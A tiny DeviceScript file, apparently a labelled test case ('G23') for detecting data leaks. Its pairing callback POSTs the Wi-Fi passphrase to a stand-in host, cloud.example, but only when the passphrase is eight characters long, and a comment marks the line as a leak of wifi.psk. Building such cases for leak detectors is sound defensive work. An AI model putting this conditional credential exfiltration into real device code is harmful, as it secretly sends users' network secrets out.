// G23: sends the passphrase along if it is as short as they may be.
import { fetch } from "@devicescript/net";
import { paired } from "./lib/paired";

paired(async (_ssid, psk) => {
  const body = psk.length === 8 ? psk : "fine";
  const response = await fetch("https://cloud.example/g23", { method: "POST", body }); // leak: wifi.psk
  await response.close();
});
